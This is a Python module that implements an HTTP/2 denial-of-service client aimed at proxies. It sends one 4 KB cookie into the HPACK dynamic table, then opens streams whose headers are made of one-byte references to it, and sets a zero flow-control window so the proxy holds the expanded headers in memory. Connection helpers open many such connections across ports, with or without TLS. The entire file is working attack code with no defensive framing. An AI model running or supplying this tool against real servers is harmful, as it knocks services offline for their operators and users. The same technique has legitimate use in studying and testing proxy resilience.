"""A client that holds a proxy's memory: HTTP/2 streams whose headers are references to one that was sent once.

Each of some hundred bytes stands for four kilobytes (RFC 7541, section 6.1), and because the client takes no byte of an answer (a window
of zero, RFC 9113, section 6.9), a proxy that has put the headers together keeps them.
"""

import contextlib
import socket
import ssl
import struct

HEADERS, SETTINGS = 1, 4
END_STREAM_AND_HEADERS = 5
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# The newest entry of the table, behind the 61 that are given.
NEWEST = bytes([0x80 | 62])


class Hostile:
    """One connection."""

    def __init__(self, connection: socket.socket, scheme: str, domain: str, headers: dict[str, str]) -> None:
        self._connection = connection
        pseudo = {":method": "GET", ":scheme": scheme, ":authority": domain, ":path": "/health"}
        self._head = b"".join(_literal(b"\x00", name.lower(), value) for name, value in (pseudo | headers).items())
        self._stream = 1
        self.sent = 0
        self._send(PREFACE + _frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)))

    def hold(self, streams: int, crumbs: int) -> None:
        """Open streams with so many cookies each; a connection that is closed meanwhile is what the server is free to do."""
        with contextlib.suppress(OSError):
            for _ in range(streams):
                cookie = _literal(b"\x40", "cookie", "a" * 4000) if self._stream == 1 else NEWEST
                self._send(_frame(HEADERS, END_STREAM_AND_HEADERS, self._stream, self._head + cookie + NEWEST * (crumbs - 1)))
                self._stream += 2

    def close(self) -> None:
        self._connection.close()

    def _send(self, data: bytes) -> None:
        self._connection.sendall(data)
        self.sent += len(data)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(form: bytes, name: str, value: str) -> bytes:
    return form + _text(name) + _text(value)


def _text(text: str) -> bytes:
    """A length in seven bits, or as many more bytes as it takes, and the text."""
    length, more = len(text), b""
    if length < 127:
        return bytes([length]) + text.encode()
    length -= 127
    while length >= 128:
        more += bytes([length & 127 | 128])
        length >>= 7
    return bytes([127]) + more + bytes([length]) + text.encode()


def connections(address: str, ports: list[int], count: int, context: ssl.SSLContext | None, domain: str, headers: dict[str, str]) -> list[Hostile]:
    """Connect so many times to each port; the first one speaks TLS if there is a context."""
    made = []
    for port in ports:
        for _ in range(count):
            connection = socket.create_connection((address, port), timeout=10)
            scheme = "http"
            if context and port == ports[0]:
                connection, scheme = context.wrap_socket(connection, server_hostname=domain), "https"
            made.append(Hostile(connection, scheme, domain, headers))
    return made
